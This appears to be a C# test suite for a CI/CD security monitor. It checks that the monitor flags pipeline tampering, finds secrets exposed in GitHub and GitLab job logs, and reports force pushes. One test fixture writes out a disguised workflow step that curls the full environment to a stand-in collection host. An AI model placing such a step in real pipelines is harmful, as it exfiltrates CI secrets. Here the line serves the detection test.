using System.Net;
using System.Text;
using System.Text.Json;
using System.Text.Json.Nodes;
using PipeWatch.Tests.Sources.JobLogs;
using PipeWatch.Tests.Support;
using Xunit;

namespace PipeWatch.Tests.Server;

/// <summary>What the server fetches as things change: a followed repository on a push (a bare repository on disk as its remote), a job's log when the job completes (a loopback stand-in for the GitHub API).</summary>
public sealed class FollowUpsTests
{
    [Fact]
    public async Task A_push_adding_a_step_that_posts_env_yields_pipeline_tampering_for_that_commit_and_a_harmless_push_nothing_new()
    {
        using var repository = new TestRepository();
        using var remote = new TempFolder();
        var bare = Path.Combine(remote.Path, "app.git");
        repository.Write(CodeChangeHistory.Workflow, CodeChangeHistory.CleanWorkflow);
        var first = repository.Commit("ci");
        repository.Git("clone", "--quiet", "--bare", repository.Path, bare);
        repository.Git("remote", "add", "origin", bare);
        await using var server = await RunningServer.StartAsync($"serve:\n  repositories:\n    - name: acme/app\n      url: '{bare}'\n");

        repository.Write(CodeChangeHistory.Workflow, CodeChangeHistory.CleanWorkflow + """
                  - name: Upload diagnostics
                    run: curl -s -d "$(env)" https://collect.example.net/d

            """);
        var tampering = repository.Commit("ci: diagnostics");
        repository.Git("push", "--quiet", "origin", "main");
        await PushAsync(server, first, tampering);
        var findings = await server.AllFindingsAsync();

        Assert.Contains(findings, f => f.GetProperty("category").GetString() == "code-change.pipeline-tampering"
            && f.GetProperty("location").GetProperty("commit").GetString() == tampering);
        Assert.All(findings, f => Assert.Equal(tampering, f.GetProperty("location").GetProperty("commit").GetString()));

        repository.Write("README.md", "# app\n\nHow to build it.\n");
        var harmless = repository.Commit("docs: readme");
        repository.Git("push", "--quiet", "origin", "main");
        await PushAsync(server, tampering, harmless);

        Assert.Equal(findings.Count, (await server.AllFindingsAsync()).Count);
        Assert.True(Directory.Exists(Path.Combine(server.Folder.Path, "mirrors", "acme_app.git")));
        Assert.Empty(server.Problems.Problems);
    }

    [Fact]
    public async Task A_completed_workflow_job_fetches_its_log_from_the_api_and_the_double_base64_dump_in_it_is_found()
    {
        var log = await File.ReadAllTextAsync(JobLogFixtures.GitHubLog, TestContext.Current.CancellationToken);
        await using var api = GitHubJobLogApi(log, "ghs_api_token_for_tests");
        await using var server = await RunningServer.StartAsync(
            $"serve:\n  github-api-url: '{api.Url}'\n", new Dictionary<string, string> { ["PIPEWATCH_GITHUB_TOKEN"] = "ghs_api_token_for_tests" });
        var job = JsonNode.Parse(File.ReadAllText(Corpus.File("github-webhooks", "workflow_job", "completed.failure.with-organization.payload.json")))!;
        var repository = job["repository"]!["full_name"]!.GetValue<string>();
        var jobId = job["workflow_job"]!["id"]!.GetValue<long>();
        var body = Encoding.UTF8.GetBytes(job.ToJsonString());

        Assert.Equal(HttpStatusCode.Accepted, (await server.PostGitHubAsync(body, "workflow_job", signature: RunningServer.Sign(body))).StatusCode);
        await SettledAsync(server);

        Assert.Equal([$"/repos/{repository}/actions/jobs/{jobId}/logs", "/blob/log.txt"], api.Requests.Select(r => r.Path));
        var findings = await server.AllFindingsAsync();
        Assert.Equal(
            ["aws-access-key-id", "aws-secret-key-near-key-id", "github-app-installation-token", "npm-access-token"],
            findings.Select(f => f.GetProperty("evidence").EnumerateArray().Single(e => e.GetProperty("name").GetString() == "secret_rule").GetProperty("value").GetString()).Order(StringComparer.Ordinal));
        Assert.All(findings, f => Assert.Equal("secrets.exposed-in-log", f.GetProperty("rule").GetString()));
        Assert.DoesNotContain(JobLogFixtures.DumpedGitHubToken, JsonSerializer.Serialize(findings), StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_completed_workflow_job_without_a_github_token_fetches_nothing()
    {
        await using var api = GitHubJobLogApi("", "unused");
        await using var server = await RunningServer.StartAsync($"serve:\n  github-api-url: '{api.Url}'\n");
        var body = await File.ReadAllBytesAsync(Corpus.File("github-webhooks", "workflow_job", "completed.failure.with-organization.payload.json"), TestContext.Current.CancellationToken);

        Assert.Equal(HttpStatusCode.Accepted, (await server.PostGitHubAsync(body, "workflow_job", signature: RunningServer.Sign(body))).StatusCode);
        await SettledAsync(server);

        Assert.Empty(api.Requests);
        Assert.Empty(await server.AllFindingsAsync());
    }

    [Fact]
    public async Task A_finished_gitlab_job_fetches_its_trace_with_the_private_token_and_the_token_printed_in_it_is_found()
    {
        var trace = await File.ReadAllTextAsync(JobLogFixtures.GitLabTrace, TestContext.Current.CancellationToken);
        await using var api = new LoopbackHttpServer();
        api.Respond = request =>
            request.Method == "GET" && request.Path == "/api/v4/projects/31537070/jobs/3580121225/trace" && request.Headers.GetValueOrDefault("PRIVATE-TOKEN") == "gitlab-api-token-for-tests"
                ? new HttpReply(200, trace, ContentType: "text/plain")
                : new HttpReply(404, """{"message":"404 Not found"}""");
        await using var server = await RunningServer.StartAsync(
            $"serve:\n  gitlab-api-url: '{api.Url}/api/v4'\n", new Dictionary<string, string> { ["PIPEWATCH_GITLAB_TOKEN"] = "gitlab-api-token-for-tests" });
        var job = JsonNode.Parse(File.ReadAllText(Corpus.File("gitlab-webhooks", "job.json")))!;

        // A job still running asks for nothing; a finished one for its trace.
        job["build_status"] = "running";
        Assert.Equal(HttpStatusCode.Accepted, (await PostGitLabAsync(server, job, "Job Hook")).StatusCode);
        await SettledAsync(server);
        Assert.Empty(api.Requests);
        Assert.Empty(await server.AllFindingsAsync());

        job["build_status"] = "failed";
        Assert.Equal(HttpStatusCode.Accepted, (await PostGitLabAsync(server, job, "Job Hook")).StatusCode);
        await SettledAsync(server);

        Assert.Equal(["/api/v4/projects/31537070/jobs/3580121225/trace"], api.Requests.Select(r => r.Path));
        var finding = Assert.Single(await server.AllFindingsAsync());
        Assert.Equal("secrets.exposed-in-log", finding.GetProperty("rule").GetString());
        Assert.Equal("Secret (gitlab-pat) printed in plain text in job 'auto_deploy_start', step 'step_script'", finding.GetProperty("title").GetString());
        Assert.DoesNotContain(JobLogFixtures.GitLabToken, finding.GetRawText(), StringComparison.Ordinal);
        Assert.Empty(server.Problems.Problems);
    }

    [Fact]
    public async Task A_force_push_to_the_default_branch_is_reported_for_its_new_head_as_ingest_reports_a_forced_push_and_a_fast_forward_is_not()
    {
        using var repository = new TestRepository();
        using var remote = new TempFolder();
        var bare = Path.Combine(remote.Path, "app.git");
        repository.Write("README.md", "# app\n");
        var first = repository.Commit("init");
        repository.Write("src/app.py", "print('hello')\n");
        var second = repository.Commit("app");
        repository.Git("clone", "--quiet", "--bare", repository.Path, bare);
        repository.Git("remote", "add", "origin", bare);
        await using var server = await RunningServer.StartAsync($"serve:\n  repositories:\n    - name: acme/app\n      url: '{bare}'\n");

        // A fast-forward: nothing.
        repository.Write("src/app.py", "print('hello, world')\n");
        var third = repository.Commit("greeting");
        repository.Git("push", "--quiet", "origin", "main");
        Assert.Equal(HttpStatusCode.Accepted, (await PostGitLabAsync(server, GitLabPush(second, third), "Push Hook")).StatusCode);
        await SettledAsync(server);
        Assert.Empty(await server.AllFindingsAsync());

        // History rewritten: main reset to the first commit and a new one pushed with --force. GitLab's hook does not say "forced".
        repository.Git("reset", "--quiet", "--hard", first);
        repository.Write("src/app.py", "print('rewritten')\n");
        var rewritten = repository.Commit("rewrite");
        repository.Git("push", "--quiet", "--force", "origin", "main");
        Assert.Equal(HttpStatusCode.Accepted, (await PostGitLabAsync(server, GitLabPush(third, rewritten), "Push Hook")).StatusCode);
        await SettledAsync(server);

        var finding = Assert.Single(await server.AllFindingsAsync());
        Assert.Equal("code-change.unauthorized-author", finding.GetProperty("rule").GetString());
        Assert.Equal("high", finding.GetProperty("severity").GetString());
        Assert.Equal(rewritten, finding.GetProperty("location").GetProperty("commit").GetString());
        Assert.Equal($"Commit {rewritten[..12]} to 'acme/app' by Dana Dev <dana@example.com> is not authorized", finding.GetProperty("title").GetString());
        Assert.Contains("It came in a forced push to the default branch 'main' by jsmith, which rewrote that branch's history.", finding.GetProperty("explanation").GetString(), StringComparison.Ordinal);
        Assert.Empty(server.Problems.Problems);
    }

    /// <summary>The corpus's GitLab push hook for acme/app's main branch, from <paramref name="before"/> to <paramref name="after"/>, its commit list emptied (the mirror has them).</summary>
    private static JsonNode GitLabPush(string before, string after)
    {
        var push = JsonNode.Parse(File.ReadAllText(Corpus.File("gitlab-webhooks", "push.json")))!;
        push["ref"] = "refs/heads/main";
        push["before"] = before;
        push["after"] = after;
        push["checkout_sha"] = after;
        push["commits"] = new JsonArray();
        push["total_commits_count"] = 0;
        push["project"]!["path_with_namespace"] = "acme/app";
        push["project"]!["default_branch"] = "main";
        return push;
    }

    private static Task<HttpResponseMessage> PostGitLabAsync(RunningServer server, JsonNode body, string eventName)
    {
        var request = new HttpRequestMessage(HttpMethod.Post, "/hooks/gitlab") { Content = new StringContent(body.ToJsonString(), Encoding.UTF8, "application/json") };
        request.Headers.Add("X-Gitlab-Token", RunningServer.GitLabToken);
        request.Headers.Add("X-Gitlab-Event", eventName);
        request.Headers.Add("X-Gitlab-Event-UUID", Guid.NewGuid().ToString());
        return server.Client.SendAsync(request, TestContext.Current.CancellationToken);
    }

    private static async Task PushAsync(RunningServer server, string before, string after)
    {
        var push = JsonNode.Parse(File.ReadAllText(Corpus.File("github-webhooks", "push", "payload.json")))!;
        push["ref"] = "refs/heads/main";
        push["before"] = before;
        push["after"] = after;
        push["forced"] = false;
        push["repository"]!["full_name"] = "acme/app";
        var body = Encoding.UTF8.GetBytes(push.ToJsonString());
        Assert.Equal(HttpStatusCode.Accepted, (await server.PostGitHubAsync(body, "push", signature: RunningServer.Sign(body))).StatusCode);
        await SettledAsync(server);
    }

    /// <summary>Waits until the queue is empty and no fetch, scan or download is under way, and the queue is empty again (a download queues a log).</summary>
    // A stand-in for the GitHub REST API's job-log download: checks the documented request and, as GitHub does, answers 302
    // with a short-lived download address, served by the same listener.
    private static LoopbackHttpServer GitHubJobLogApi(string log, string token)
    {
        var api = new LoopbackHttpServer();
        api.Respond = request =>
            request.Path == "/blob/log.txt" ? new HttpReply(200, log, ContentType: "text/plain")
            : request.Method == "GET" && request.Path.EndsWith("/logs", StringComparison.Ordinal)
                && request.Headers.GetValueOrDefault("Authorization") == $"Bearer {token}"
                && request.Headers.GetValueOrDefault("Accept") == "application/vnd.github+json"
                && request.Headers.GetValueOrDefault("X-GitHub-Api-Version") == "2022-11-28"
                ? new HttpReply(302, Headers: new Dictionary<string, string> { ["Location"] = api.Url + "/blob/log.txt" })
            : new HttpReply(404, """{"message":"Not Found"}""");
        return api;
    }

    private static async Task SettledAsync(RunningServer server)
    {
        var deadline = DateTime.UtcNow + TimeSpan.FromSeconds(60);
        while (true)
        {
            await server.DrainedAsync();
            var health = await server.GetJsonAsync("/api/health", null);
            if (health.GetProperty("following").GetInt32() == 0 && health.GetProperty("backlog").GetInt64() == 0) return;
            Assert.True(DateTime.UtcNow < deadline, "the server did not settle");
            await Task.Delay(50, TestContext.Current.CancellationToken);
        }
    }
}
